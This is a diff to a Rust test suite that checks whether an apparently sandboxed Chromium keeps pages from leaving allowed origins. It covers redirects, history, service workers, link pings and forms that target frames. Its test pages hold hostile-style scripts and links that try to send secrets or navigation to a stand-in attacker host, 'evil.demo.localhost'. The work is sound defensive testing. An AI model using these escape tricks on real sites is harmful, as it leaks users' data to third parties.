@@ -1,5 +1,8 @@
 //! Where a page may go, in a real Chromium, with pages that try to leave.
 
+mod egress;
+mod races;
+
 use crate::browser_support::*;
 use axum::http::header;
 use axum::response::{IntoResponse, Response};
@@ -32,6 +35,18 @@ const LEAVES: [(&str, &str); 15] = [
     ),
 ];
 
+/// Ways to leave that a script takes again and again; `n` is a number of its own.
+fn ways_out(to: &str) -> [String; 4] {
+    [
+        format!("location.href = `{to}?${{n++}}`"),
+        format!("location.replace(`{to}?${{n++}}`)"),
+        format!("open(`{to}?${{n++}}`, '_self')"),
+        format!(
+            "const a = document.createElement('a'); a.href = `{to}?${{n++}}`; document.body.append(a); a.click(); a.remove()"
+        ),
+    ]
+}
+
 fn pages(asked: &str) -> Response {
     let evil = format!("{EVIL}/landed{SECRET}");
     let Some(path) = asked.strip_prefix("chat.demo.localhost") else {
@@ -46,7 +61,7 @@ fn pages(asked: &str) -> Response {
     match path {
         "/redirect" => redirect(&evil),
         "/redirect-twice" => redirect("/redirect"),
-        "/in" => redirect(&format!("{ACCOUNTS}/in")),
+        "/in" | "/in?secret" => redirect(&format!("{ACCOUNTS}{path}")),
         "/refresh" => ([(header::REFRESH, format!("0;url={evil}"))], html("")).into_response(),
         "/signal" => html("still here"),
         _ => html("hello"),
@@ -120,13 +135,18 @@ async fn sign_in_pages_are_reached_from_the_entry_only_and_tell_nothing() {
     let mut spec = spec();
     spec.entry = format!("{CHAT}/in").parse().unwrap();
     let page = instance.open_page(spec).await.unwrap();
+    // The site leads on from there as it does from the entry, with the secret: not to be followed.
     for path in ["/in?secret", "/in#secret"] {
-        assert!(at(&page, path).await.is_err() || page.url().await.unwrap() == format!("{CHAT}{path}"));
+        assert_eq!(at(&page, path).await, Err(PageError::OriginDenied(ACCOUNTS.into())), "{path}");
     }
+    assert_eq!((site.hits("chat.demo.localhost/in?secret"), site.hits("accounts.")), (1, 0));
     page.back_to_entry(Some(PATIENCE)).await.unwrap();
     assert_eq!(page.url().await.unwrap(), format!("{ACCOUNTS}/"), "the origin alone");
     assert_eq!(page.title().await, Err(PageError::OriginDenied(ACCOUNTS.into())));
     assert!(matches!(page.reload(Some(PATIENCE)).await, Err(PageError::OriginDenied(_))));
+    // From the sign-in page neither.
+    assert_eq!(at(&page, "/in?secret").await, Err(PageError::OriginDenied(ACCOUNTS.into())));
+    assert_eq!(site.hits("accounts.demo.localhost/in?"), 0);
     at(&page, "/signal").await.unwrap();
     assert_eq!(page.title().await.unwrap(), "a page");
     instance.stop().await;
@@ -136,7 +156,11 @@ async fn sign_in_pages_are_reached_from_the_entry_only_and_tell_nothing() {
 async fn history_does_not_lead_back_to_a_sign_in_page() {
     let site = Site::start(|asked| match asked {
         "chat.demo.localhost/" => redirect(&format!("{ACCOUNTS}/in")),
-        "chat.demo.localhost/back" => html("<script>onload = () => history.back()</script>"),
+        // A document that is about to be left is asked first. This one is still there a while later.
+        "chat.demo.localhost/back" => html(
+            "<script>onbeforeunload = () => { fetch('/asked', {keepalive: true}); setTimeout(() => fetch('/stayed'), 300) };
+                onload = () => setTimeout(() => history.back())</script>",
+        ),
         _ => html("x"),
     })
     .await;
@@ -145,6 +169,10 @@ async fn history_does_not_lead_back_to_a_sign_in_page() {
     assert_eq!(page.url().await.unwrap(), format!("{ACCOUNTS}/"));
     let visits = site.hits("accounts.");
     page.goto(&format!("{CHAT}/back"), Some(PATIENCE)).await.unwrap();
+    eventually("it has tried to go back", async || site.hits("chat.demo.localhost/asked") > 0).await;
+    eventually("that has come to its end", async || site.hits("chat.demo.localhost/stayed") > 0).await;
+    assert_eq!(page.url().await.unwrap(), format!("{CHAT}/back"));
+    assert_eq!(page.title().await.unwrap(), "a page");
     page.goto(&format!("{CHAT}/other"), Some(PATIENCE)).await.unwrap();
     assert_eq!(page.url().await.unwrap(), format!("{CHAT}/other"));
     assert_eq!(site.hits("accounts."), visits);
@@ -269,6 +297,19 @@ async fn a_service_worker_leads_nowhere() {
     let denied = at(&page, "/left").await;
     assert_eq!(denied, Err(PageError::OriginDenied(EVIL.into())));
     assert_eq!(site.hits("evil.demo.localhost/landed"), 0);
+
+    // A document that the worker made is one of the site's. What it leads a frame to is loaded there, and read by nobody.
+    at(&page, "/made").await.unwrap();
+    assert_eq!(site.hits("chat.demo.localhost/made"), 0, "the site has none");
+    assert_eq!((page.url().await.unwrap(), page.title().await.unwrap()), (format!("{CHAT}/made"), "made".into()));
+    let frame = "css=iframe >> in-frame >> css=body";
+    let denied = PageError::OriginDenied(format!("{EVIL} (the frame of {frame})"));
+    eventually("the frame was led on", async || page.count(frame).await == Err(denied.clone())).await;
+    assert_eq!(page.text(frame, Some(PATIENCE / 4)).await, Err(denied));
+    assert_eq!(page.texts("css=body").await.unwrap().len(), 1, "the document around it is read");
+    // Its own script leads no further than another's.
+    assert_eq!(at(&page, "/left").await, Err(PageError::OriginDenied(EVIL.into())));
+    assert_eq!(page.url().await.unwrap(), format!("{CHAT}/made"));
     instance.stop().await;
 }
 
@@ -279,7 +320,8 @@ async fn what_is_typed_never_goes_to_a_sign_in_page() {
         "chat.demo.localhost/form" => html(&format!(
             "<form action='{ACCOUNTS}/in'><input name=q><button>Go</button></form>
                 <form method=post action='{ACCOUNTS}/in'><input name=p></form>
-                <a href='{ACCOUNTS}/in' ping='{ACCOUNTS}/in'>in</a>"
+                <a id=in href='{ACCOUNTS}/in' ping='{ACCOUNTS}/in {EVIL}/ping'>in</a>
+                <a id=own href='#here' ping='{ACCOUNTS}/in {EVIL}/ping'>here</a>"
         )),
         _ => html("x"),
     })
@@ -293,9 +335,53 @@ async fn what_is_typed_never_goes_to_a_sign_in_page() {
     page.press("css=[name=q]", "Enter", wait).await.unwrap();
     page.fill("css=[name=p]", "secret", wait).await.unwrap();
     page.press("css=[name=p]", "Enter", wait).await.unwrap();
+    page.click("css=#in", 1, wait).await.unwrap();
     // The document is the one it was: what is done to it comes after what was refused.
     assert_eq!(page.count("css=form").await, Ok(2));
     assert_eq!(page.url().await.unwrap(), format!("{CHAT}/form"));
-    assert_eq!(site.hits("accounts."), 0);
+    // A link that leads nowhere would tell others of it, too.
+    page.click("css=#own", 1, wait).await.unwrap();
+    eventually("it was followed", async || page.url().await.is_ok_and(|url| url.ends_with("#here"))).await;
+    // Another request of the page's comes after whatever the clicks have sent.
+    at(&page, "/after").await.unwrap();
+    assert_eq!((site.hits("accounts."), site.hits("evil.")), (0, 0));
+    instance.stop().await;
+}
+
+/// A form may have its answer shown in a frame of the page. That is the page's own affair, like whatever its frames load: the page stays
+/// where it is, and what the frame then shows is read and touched by nobody.
+#[tokio::test]
+async fn a_form_that_answers_into_a_frame_leads_the_page_nowhere() {
+    let site = Site::start(|asked| match asked {
+        "chat.demo.localhost/framed" => html(&format!(
+            "<form action='{EVIL}/get' target=answer><input name=q><button id=get>Get</button></form>
+                <form method=post action='{EVIL}/post' target=answer><input name=p><button id=post>Post</button></form>
+                <iframe name=answer></iframe>"
+        )),
+        asked if asked.starts_with("evil.") => html(&format!(
+            "<b>secret</b><script>for (const way of ['_top', '_parent']) open('{EVIL}/landed', way);
+                top.location = '{EVIL}/landed'</script>"
+        )),
+        _ => html("x"),
+    })
+    .await;
+    let instance = instance(&site).await;
+    let page = page(&instance).await;
+    at(&page, "/framed").await.unwrap();
+    let wait = Some(PATIENCE / 4);
+    let frame = "css=iframe >> in-frame >> css=b";
+    let denied = PageError::OriginDenied(format!("{EVIL} (the frame of {frame})"));
+    for (button, path) in [("css=#get", "get"), ("css=#post", "post")] {
+        page.click(button, 1, wait).await.unwrap();
+        eventually("the frame shows it", async || {
+            site.hits(&format!("evil.demo.localhost/{path}")) > 0 && page.count(frame).await == Err(denied.clone())
+        })
+        .await;
+        assert_eq!(page.text(frame, wait).await, Err(denied.clone()));
+        assert_eq!(page.click(frame, 1, wait).await, Err(denied.clone()));
+        assert_eq!(page.count("css=form").await, Ok(2), "the page is the one it was");
+        assert_eq!(page.url().await.unwrap(), format!("{CHAT}/framed"));
+    }
+    assert_eq!(site.hits("evil.demo.localhost/landed"), 0, "nor is it led there from the frame");
     instance.stop().await;
 }
